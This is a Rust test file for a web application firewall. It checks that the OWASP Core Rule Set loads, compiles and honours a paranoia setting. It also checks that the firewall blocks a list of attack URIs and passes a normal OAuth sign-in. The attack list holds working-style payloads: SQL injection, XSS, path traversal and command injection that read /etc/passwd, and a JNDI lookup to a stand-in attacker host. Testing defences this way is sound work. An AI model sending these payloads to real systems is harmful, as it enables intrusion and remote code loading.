//! The OWASP Core Rule Set 3.3.4, as Debian's `modsecurity-crs` installs it, loads through the
//! SecLang front end and catches the obvious attacks. `scripts/setup.sh` installs the package.

use std::path::Path;

use waf_core::rules::seclang::Loader;
use waf_core::{compile, Request, RuleSet};

const CRS_SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const CRS_RULES: &str = "/usr/share/modsecurity-crs/rules/*.conf";

fn load_crs() -> (RuleSet, Vec<waf_core::Error>) {
    assert!(
        Path::new(CRS_SETUP).exists(),
        "{CRS_SETUP} is missing: install the Debian package modsecurity-crs (scripts/setup.sh does)"
    );
    let mut loader = Loader::new();
    loader
        .load_str(
            &format!("Include {CRS_SETUP}\nInclude {CRS_RULES}\n"),
            "crs.conf",
            None,
        )
        .unwrap_or_else(|e| panic!("{e}"));
    loader.finish().unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn crs_3_3_4_loads_and_every_note_names_its_file_line_and_rule() {
    let (set, notes) = load_crs();
    let rules = set.rules().count();
    assert!(rules > 400, "{rules} rules");
    for n in &notes {
        println!("{n}");
        assert!(n.location().is_some(), "{n}");
    }
    println!("{rules} rules, {} notes", notes.len());
    compile(&set).unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn crs_blocks_the_obvious_attacks_and_passes_a_sign_in() {
    let (set, _) = load_crs();
    let program = compile(&set).unwrap();
    let get = |uri: &str| {
        Request::builder()
            .method("GET")
            .uri(uri)
            .header("Host", "login.contoso.com")
            .header(
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
            )
            .header("Accept", "text/html")
            .build()
    };
    for attack in [
        "/?q=1%27%20OR%20%271%27%3D%271",
        "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/?file=../../../../etc/passwd",
        "/?cmd=%3Bcat%20/etc/passwd",
        "/?x=${jndi:ldap://evil.example/a}",
    ] {
        let verdict = program.inspect(&get(attack));
        assert!(verdict.is_blocking(), "{attack}: {verdict:?}");
        assert_eq!(verdict.decided_by, Some(949110), "{attack}");
    }
    let clean = program.inspect(&get(
        "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=6731de76-14a6-49ae-97bc-6eba6914391e&response_type=code&scope=openid%20profile&state=abc",
    ));
    assert!(!clean.is_blocking(), "{clean:?}");
}

#[test]
fn the_rulesets_paranoia_level_reaches_the_crs() {
    let (mut set, _) = load_crs();
    let request = Request::builder()
        .uri("/?q=a%27%27%27b%27%27%27c%27%27%27d%27%27%27e%27%27")
        .header("Host", "login.contoso.com")
        .header("User-Agent", "Mozilla/5.0")
        .header("Accept", "text/html")
        .build();
    let fired = |set: &RuleSet| -> Vec<u32> {
        let verdict = compile(set).unwrap().inspect(&request);
        verdict.matches.iter().map(|m| m.rule_id).collect()
    };
    // 942430 (twelve or more special characters) is a paranoia level 2 rule.
    assert!(!fired(&set).contains(&942430));
    set.settings.paranoia = 2;
    assert!(fired(&set).contains(&942430), "{:?}", fired(&set));
}
